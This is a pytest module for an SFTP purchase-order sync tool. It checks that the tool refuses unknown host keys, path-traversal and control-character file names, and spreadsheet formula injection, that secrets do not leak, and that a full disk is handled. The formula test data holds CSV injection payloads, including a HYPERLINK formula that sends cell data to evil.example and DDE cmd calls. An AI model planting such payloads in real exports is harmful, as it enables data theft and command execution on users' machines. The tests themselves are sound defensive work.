"""Hostile hosts, names and contents; secrets; permissions; a full disk (issue 6), against the real sshd."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import polars as pl
import pytest

from batchsync.config import WritebackConfig
from batchsync.transfer import MAX_NAME, unsafe_name_reason
from batchsync.writeback import build_files
from tests.conftest import SAMPLE_A, SAMPLES, Workspace
from tests.coupa_files import po_file
from tests.sshd import SshdServer

ROOT = Path(__file__).resolve().parent.parent
BATCHSYNC = Path(sys.executable).with_name("batchsync")
PASSWORD = "pw-Zq8#hostile-7731"
PASSPHRASE = "pp-Kx3!hostile-0419"
WRONG_PASSPHRASE = "pp-wrong-Vv5-5521"
TRIED: list[str] = []  # hostile inputs, printed at the end of the module


@pytest.fixture(scope="module", autouse=True)
def _report() -> Iterator[None]:
    yield
    if TRIED:
        print(f"\nhostile inputs tried ({len(TRIED)}):")
        for case in TRIED:
            print(f"  {case}")


def run(ws: Workspace, *args: str, env: dict[str, str] | None = None, umask: int | None = None, timeout: float = 90):
    clean = {k: v for k, v in os.environ.items() if not k.startswith("BATCHSYNC_")}
    command = [str(BATCHSYNC), "--config", str(ws.config), *args]
    if umask is not None:  # permissions must not depend on a careful umask
        command = ["sh", "-c", f'umask {umask:03o} && exec "$@"', "sh", *command]
    return subprocess.run(
        command, capture_output=True, text=True, env={**clean, **(env or {})}, timeout=timeout, check=False
    )


def fingerprint(pub_line: str) -> str:
    blob = base64.b64decode(pub_line.split()[1])
    return "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")


def keygen(path: Path, passphrase: str = "") -> Path:
    subprocess.run(["ssh-keygen", "-t", "ed25519", "-N", passphrase, "-q", "-f", str(path)], check=True)
    return path


def use_key(ws: Workspace, key: Path | None) -> None:
    """Point the config at another client key (None: no key_file line at all)."""
    line = f'key_file = "{key}"\n' if key else ""
    ws.config.write_text(re.sub(r'(?m)^key_file = ".*"\n', lambda _: line, ws.config.read_text()))


def sshd_log(server: SshdServer) -> Path:
    return server.workdir / f"sshd-{server.port}.log"


def auth_lines(text: str) -> list[str]:
    """sshd lines that show an authentication attempt (LogLevel VERBOSE)."""
    words = ("publickey", "Accepted", "Failed", "authenticating user", "Postponed", "invalid user")
    return [line for line in text.splitlines() if any(w in line for w in words)]


# hostile hosts -------------------------------------------------------------------


def test_auth_attempts_show_in_the_sshd_log(sftp_workspace: Workspace, tmp_path: Path) -> None:
    """The control for the tests below: a wrong client key against a known host is an authentication failure."""
    ws = sftp_workspace
    assert ws.server is not None
    use_key(ws, keygen(tmp_path / "stranger"))
    log = sshd_log(ws.server)
    before = log.stat().st_size

    result = run(ws, "run")

    assert result.returncode == 2
    assert "refused our credentials" in result.stderr
    assert auth_lines(log.read_bytes()[before:].decode(errors="replace")) != []


@pytest.mark.parametrize("case", ["unknown", "changed"])
def test_hostile_host_key_is_refused_before_authentication(
    sftp_workspace: Workspace, tmp_path: Path, case: str
) -> None:
    ws = sftp_workspace
    server = ws.server
    assert server is not None
    ws.put_samples()
    known_hosts = tmp_path / "known_hosts"
    if case == "unknown":
        known_hosts.write_text("")
    else:  # the address is known, with another key: a reinstalled server, or someone in the middle
        other = keygen(tmp_path / "other_host")
        other_pub = " ".join(Path(f"{other}.pub").read_text().split()[:2])
        known_hosts.write_text(f"[127.0.0.1]:{server.port} {other_pub}\n")
    before_known = known_hosts.read_bytes()
    ws.write_config(known_hosts=known_hosts)
    use_key(ws, keygen(tmp_path / "stranger"))  # were it to authenticate, this key would fail: it does not get there
    log = sshd_log(server)
    before = log.stat().st_size

    result = run(ws, "run")

    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert "refused our credentials" not in result.stderr
    message = result.stderr
    assert fingerprint(server.host_key_pub) in message  # the key the server offered
    if case == "unknown":
        assert "unknown" in message
        assert f"[127.0.0.1]:{server.port} {server.host_key_pub}" in message  # the line to add
    else:
        assert "CHANGED" in message
        assert fingerprint(other_pub) in message  # the key known_hosts expects
    # before authentication: the server saw the connection, and no authentication attempt on it
    seen = log.read_bytes()[before:].decode(errors="replace")
    assert "Connection from 127.0.0.1" in seen
    assert auth_lines(seen) == []
    assert known_hosts.read_bytes() == before_known  # nothing added, nothing replaced
    assert ws.remote_names(ws.outgoing) != [] and ws.handoff_files() == []
    assert [r["status"] for r in ws.rows("SELECT status FROM runs")] == ["failed"]
    TRIED.append(f"{case} host key (with an unauthorized client key): exit 3 before authentication")


def test_changed_host_key_message_shows_the_line_to_add(sftp_workspace: Workspace, tmp_path: Path) -> None:
    ws = sftp_workspace
    server = ws.server
    assert server is not None
    other = keygen(tmp_path / "other_host")
    known_hosts = tmp_path / "known_hosts"
    known_hosts.write_text(f"[127.0.0.1]:{server.port} {' '.join(Path(f'{other}.pub').read_text().split()[:2])}\n")
    ws.write_config(known_hosts=known_hosts)

    result = run(ws, "run")

    assert result.returncode == 2
    assert f"[127.0.0.1]:{server.port} {server.host_key_pub}" in result.stderr


def test_no_code_path_adds_host_keys() -> None:
    sources = "\n".join(p.read_text(encoding="utf-8") for p in (ROOT / "batchsync").glob("*.py"))
    for trusting in ("AutoAddPolicy", "WarningPolicy", "save_host_keys", "add_host_key", "get_host_keys().add"):
        assert trusting not in sources
    assert "set_missing_host_key_policy(_RefuseUnknownHost" in (ROOT / "batchsync" / "sftp.py").read_text()


# hostile names ---------------------------------------------------------------------

HOSTILE_NAMES = [
    "a..b.csv",  # '..'
    "..hidden.csv",
    "-rf.csv",  # leading '-': an option to a shell tool
    "--config=evil.csv",
    "tab\there.csv",
    "new\nline.csv",
    "carriage\rreturn.csv",
    "esc\x1b[2Jclear.csv",  # a terminal escape
    "del\x7f.csv",
    "back\\..\\..\\slash.csv",  # '\\' and '..'
]


def tree(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*")} if folder.exists() else set()


def test_hostile_remote_names_are_refused_and_nothing_lands_outside_the_state_folder(
    sftp_workspace: Workspace, tmp_path: Path
) -> None:
    ws = sftp_workspace
    sample = (SAMPLES / SAMPLE_A).read_bytes()
    for name in HOSTILE_NAMES:
        ws.put(name, sample)
    ws.put("OrderHeader_20261124_010000Z.csv", sample)  # one good file among them
    over_long = "x" * 296 + ".csv"
    with pytest.raises(OSError):  # 300 characters: no Linux file system stores it, so no server lists it
        ws.put(over_long, sample)
    assert unsafe_name_reason(over_long) == f"the name is 300 characters long (at most {MAX_NAME})"
    ours = {ws.state, ws.handoff}
    outside_before = tree(tmp_path) - tree(ws.state) - tree(ws.handoff) - ours
    base_before = tree(ws.remote_base.parent)

    result = run(ws, "--log-level", "info", "run")
    summary = run(ws, "run", "--json")

    assert result.returncode == 1, result.stderr  # errored: refused names need attention
    assert summary.returncode == 1
    [feed, _] = json.loads(summary.stdout)["feeds"]
    assert len(feed["refused_names"]) == len(HOSTILE_NAMES)  # refused again, every run, and reported
    for text in (result.stdout, result.stderr):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", text)  # no raw control character reaches a terminal
    refusals = [line for line in result.stderr.splitlines() if "refusing remote file" in line]
    assert len(refusals) == len(HOSTILE_NAMES)
    for name in HOSTILE_NAMES:
        assert repr(name) in result.stderr  # named, escaped
    # only the good file was fetched and handed off; the hostile ones stay where they are, untouched
    assert [r["name"] for r in ws.rows("SELECT name FROM files")] == ["OrderHeader_20261124_010000Z.csv"]
    assert sorted(ws.remote_names(ws.outgoing)) == sorted(HOSTILE_NAMES)
    assert all((ws.outgoing / n).read_bytes() == sample for n in HOSTILE_NAMES)
    assert len(ws.handoff_files()) == 1
    # nothing written outside the state and hand-off folders, locally or on the server
    outside_after = tree(tmp_path) - tree(ws.state) - tree(ws.handoff) - ours
    assert outside_after - outside_before == set()
    assert tree(ws.remote_base.parent) - base_before <= tree(ws.archive) | tree(ws.incoming) | {ws.archive}
    for path in tree(ws.state) | tree(ws.handoff):
        assert not any(hostile.split(".")[0] in path.name for hostile in HOSTILE_NAMES[2:])
    TRIED.extend(f"remote name {name!r}: refused" for name in HOSTILE_NAMES)
    TRIED.append("remote name of 300 characters: cannot exist on the server's file system; the check refuses it")


def test_longest_legal_remote_name_does_not_block_the_feed(sftp_workspace: Workspace) -> None:
    ws = sftp_workspace
    long_name = "O" * 251 + ".csv"  # 255 bytes: the longest name the server's file system allows
    # refused: its hand-off names would not fit a file system; it stays where it is
    assert unsafe_name_reason(long_name) == f"the name is 255 characters long (at most {MAX_NAME})"
    ws.put(long_name, (SAMPLES / SAMPLE_A).read_bytes())

    first = run(ws, "run")
    ws.put("OrderHeader_20261124_010000Z.csv", (SAMPLES / SAMPLE_A).read_bytes() + b"\n")
    second = run(ws, "run")

    TRIED.append(f"remote name of 255 characters: exit {first.returncode}, then {second.returncode}")
    assert first.returncode in (0, 1), first.stderr  # refused, or handed off under a name that fits
    assert second.returncode in (0, 1), second.stderr
    assert "Traceback" not in first.stderr + second.stderr
    states = {r["name"]: r["state"] for r in ws.rows("SELECT name, state FROM files")}
    assert states.get("OrderHeader_20261124_010000Z.csv") == "processed"  # the next good file is not held up
    assert long_name not in states and long_name in ws.remote_names(ws.outgoing)


# hostile contents: spreadsheet formulas ----------------------------------------

CSV_MAPPING = """\
target: sap_orders05
kind: purchase_orders
template: erp_orders.csv.j2
extension: csv
xref:
  suppliers: {file: xref/suppliers.csv, key: coupa_supplier_number, value: sap_vendor_number}
records:
  - name: HDR
    level: header
    layout: csv
    fields:
      - {name: PO, source: id}
      - {name: VERSION, source: version}
      - {name: VENDOR, source: supplier-number, xref: suppliers}
      - {name: NAME, source: supplier-name}
  - name: ITEM
    level: line
    layout: csv
    fields:
      - {name: PO, source: header.id}
      - {name: POS, source: line-number}
      - {name: TEXT, source: description}
      - {name: PRICE, source: price}
"""
CSV_TEMPLATE = """\
{% for doc in documents -%}
{{ doc.HDR }}
{% if doc.line_records %}{{ doc.line_records }}
{% endif %}
{%- endfor %}
"""
FORMULAS = {
    "4501": ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+1"),
    "4502": ("+cmd|' /C calc'!A0", "-2+3"),
    "4503": ("@SUM(A1:A9)", "=cmd|' /C notepad'!'A1'"),
}
LEADING = ("=", "+", "-", "@", "\t", "\r")


def harmless(cell: str) -> bool:
    """A spreadsheet will not run it: no leading = + - @ (or tab/CR), unless it is a plain number."""
    return not cell.startswith(LEADING) or re.fullmatch(r"[+-]?\d+(\.\d+)?", cell) is not None


def test_formula_cells_are_written_as_text_in_the_hand_off_and_the_write_back(
    sftp_workspace: Workspace, tmp_path: Path
) -> None:
    ws = sftp_workspace
    mappings, templates = tmp_path / "mappings", tmp_path / "templates"
    shutil.copytree(ROOT / "mappings", mappings)
    shutil.copytree(ROOT / "templates", templates)
    (mappings / "sap_orders05.purchase_orders.yaml").write_text(CSV_MAPPING)  # the PO feed hands off CSV
    (templates / "erp_orders.csv.j2").write_text(CSV_TEMPLATE)
    ws.write_config(local_extra=f'mappings_dir = "{mappings}"\ntemplates_dir = "{templates}"')
    headers = [{"id": po, "supplier-name": name} for po, (name, _) in FORMULAS.items()]
    lines = [{"order-header-id": po, "description": text} for po, (_, text) in FORMULAS.items()]
    # rejected for another reason (supplier not in the xref), with a formula in its values
    headers.append({"id": "4504", "supplier-number": "@SUP-9999", "supplier-name": '=HYPERLINK("http://x")'})
    lines.append({"order-header-id": "4504", "description": "-cmd"})
    ws.put("OrderHeader_20261124_030000Z.csv", po_file(headers, lines))

    result = run(ws, "run")

    assert result.returncode == 1, result.stderr  # 4504 rejected
    [manifest] = [json.loads(p.read_text()) for p in ws.handoff.glob("*.manifest.json")]
    assert sorted(str(d["id"]) for d in manifest["documents"]) == ["4501", "4502", "4503"]
    cells = [c for row in csv.reader(io.StringIO((ws.handoff / manifest["file"]).read_text("utf-8"))) for c in row]
    for name, text in FORMULAS.values():
        assert "'" + name in cells and "'" + text in cells  # kept whole, shown as text
    assert [c for c in cells if not harmless(c)] == []
    [writeback] = ws.remote_names(ws.incoming)
    rows = list(csv.DictReader(io.StringIO((ws.incoming / writeback).read_text("utf-8"))))
    assert [c for row in rows for c in row.values() if not harmless(c)] == []
    status = {r["Order Header ID"]: r["ERP Integration Status"] for r in rows}
    assert status["4504"].startswith("Rejected: ") and "@SUP-9999" in status["4504"]
    TRIED.extend(f"formula in a hand-off CSV cell: {v!r}" for pair in FORMULAS.values() for v in pair)
    TRIED.append("formula values in a rejected PO: write-back cell starts with 'Rejected:'")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil.example","x")', '"\'=HYPERLINK(""http://evil.example"",""x"")"'),
        ("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""),
        ("-2+3", '"\'-2+3"'),
        ("@SUM(A1)", '"\'@SUM(A1)"'),
        ("\t=1+1", '"\'\t=1+1"'),
        ("-5.00", '"-5.00"'),  # a plain number stays a number
    ],
)
def test_a_write_back_cell_starting_with_a_formula_character_gets_a_quote(text: str, cell: str) -> None:
    rows = pl.DataFrame({"id": [1], "po_id": ["4601"], "field": ["ERP Integration Status"], "text": [text]})
    [wb] = build_files(rows, WritebackConfig(), "20261124T020000Z_r000001")
    assert wb.data.decode().splitlines()[1].split(",", 19)[19].startswith(cell)
    TRIED.append(f"write-back text {text!r} -> cell {cell!r}")


# secrets and permissions --------------------------------------------------------


def secret_hits(paths: list[Path], secrets: list[str]) -> list[str]:
    hits = []
    for folder in paths:
        for path in [folder] if folder.is_file() else sorted(folder.rglob("*")):
            if path.is_file():
                data = path.read_bytes()
                hits += [f"{path}: {s}" for s in secrets if s.encode() in data]
    return hits


def test_secrets_appear_nowhere_and_state_is_owner_only(sftp_workspace: Workspace, tmp_path: Path) -> None:
    ws = sftp_workspace
    assert ws.server is not None
    ws.put_samples()
    locked = tmp_path / "client_key_with_passphrase"
    shutil.copyfile(ws.server.client_key, locked)
    locked.chmod(0o600)
    subprocess.run(
        ["ssh-keygen", "-p", "-q", "-P", "", "-N", PASSPHRASE, "-f", str(locked)], check=True, capture_output=True
    )
    use_key(ws, locked)
    secrets = {"BATCHSYNC_SFTP_PASSWORD": PASSWORD, "BATCHSYNC_SFTP_KEY_PASSPHRASE": PASSPHRASE}
    debug = ("--log-level", "debug")
    outputs = []

    good = run(ws, *debug, "run", env=secrets, umask=0)
    outputs.append(good)
    assert good.returncode == 1, good.stderr  # the samples: handed off, some rejected
    assert "Authentication (publickey) successful" in good.stderr  # the passphrase opened the key
    outputs.append(run(ws, *debug, "--log-format", "json", "run", env=secrets))
    outputs.append(run(ws, "status", env=secrets))
    outputs.append(run(ws, "history", env=secrets))
    # failures: a wrong passphrase, with and without --debug tracebacks; a password the server refuses
    wrong = {**secrets, "BATCHSYNC_SFTP_KEY_PASSPHRASE": WRONG_PASSPHRASE}
    outputs.append(bad_key := run(ws, *debug, "run", env=wrong))
    assert bad_key.returncode == 2 and "does not open key_file" in bad_key.stderr
    outputs.append(run(ws, *debug, "--debug", "run", env=wrong))
    use_key(ws, None)
    outputs.append(bad_password := run(ws, *debug, "run", env=secrets))
    assert bad_password.returncode == 2 and "refused our credentials" in bad_password.stderr
    outputs.append(run(ws, *debug, "--debug", "run", env=secrets))

    everything = [PASSWORD, PASSPHRASE, WRONG_PASSPHRASE]
    for result in outputs:
        for secret in everything:
            assert secret not in result.stdout and secret not in result.stderr
    assert secret_hits([ws.state, ws.handoff, ws.incoming, ws.config], everything) == []
    assert (ws.state / "ledger.db").read_bytes()  # the ledger was read too, bytes and all
    # owner-only: the state folder, the ledger (and its WAL files), the error reports
    assert ws.state.stat().st_mode & 0o077 == 0
    assert (ws.state / "ledger.db").stat().st_mode & 0o777 == 0o600
    for extra in ws.state.glob("ledger.db-*"):
        assert extra.stat().st_mode & 0o077 == 0, extra
    reports = list((ws.state / "reports").glob("*.errors.csv"))
    assert reports and all(r.stat().st_mode & 0o777 == 0o600 for r in reports)
    assert (ws.state / "reports").stat().st_mode & 0o077 == 0
    TRIED.append(
        f"secrets (password, passphrase, wrong passphrase) through {len(outputs)} runs at debug level, "
        "text and JSON logs, --debug tracebacks: found in no output, state file or hand-off"
    )


# disk full ------------------------------------------------------------------------


@pytest.fixture
def small_tmpfs(tmp_path: Path) -> Iterator[Path]:
    mount_point = tmp_path / "handoff_fs"
    mount_point.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64k,mode=0755", "tmpfs", str(mount_point)],
        capture_output=True,
        text=True,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs for the hand-off folder: {done.stderr.strip() or done.returncode}")
    try:
        yield mount_point
    finally:
        if subprocess.run(["umount", str(mount_point)], capture_output=True, check=False).returncode != 0:
            subprocess.run(["umount", "-l", str(mount_point)], capture_output=True, check=False)


def test_disk_full_during_hand_off_fails_cleanly_and_the_next_run_completes(
    sftp_workspace: Workspace, small_tmpfs: Path
) -> None:
    ws = sftp_workspace
    ws.write_config()
    ws.config.write_text(ws.config.read_text().replace('handoff_dir = "handoff"', f'handoff_dir = "{small_tmpfs}"'))
    count = 300  # about 3 MB of IDocs into 64 kB
    data = b"".join(po_file([{"id": str(700000 + i)}], [{}, {}]) for i in range(count))
    ws.put("OrderHeader_20261124_040000Z.csv", data)

    full = run(ws, "run")

    assert full.returncode == 3, full.stderr
    assert f"hand-off folder {small_tmpfs}" in full.stderr and "No space left on device" in full.stderr
    assert "Traceback" not in full.stderr
    assert sorted(p.name for p in small_tmpfs.iterdir()) == []  # no partial file, no ERP file without manifest
    assert [r["status"] for r in ws.rows("SELECT status FROM runs")] == ["failed"]
    assert [r["state"] for r in ws.rows("SELECT state FROM files")] == ["fetched"]  # to be processed again
    assert ws.rows("SELECT count(*) AS n FROM po_versions")[0]["n"] == 0
    assert ws.remote_names(ws.incoming) == []  # nothing written back about POs the ERP does not have

    grown = subprocess.run(["mount", "-o", "remount,size=16m", str(small_tmpfs)], capture_output=True, check=False)
    assert grown.returncode == 0, grown.stderr
    again = run(ws, "run")

    assert again.returncode == 0, again.stderr
    names = sorted(p.name for p in small_tmpfs.iterdir())
    assert len(names) == 2 and names[1] == names[0] + ".manifest.json"
    manifest = json.loads((small_tmpfs / names[1]).read_text())
    assert hashlib.sha256((small_tmpfs / names[0]).read_bytes()).hexdigest() == manifest["sha256"]
    ids = [str(d["id"]) for d in manifest["documents"]]
    assert len(ids) == len(set(ids)) == count
    [writeback] = ws.remote_names(ws.incoming)
    assert len((ws.incoming / writeback).read_text().splitlines()) == count + 1
    TRIED.append("hand-off onto a full 64 kB tmpfs: exit 3, no partial file; after growing it the run completes")
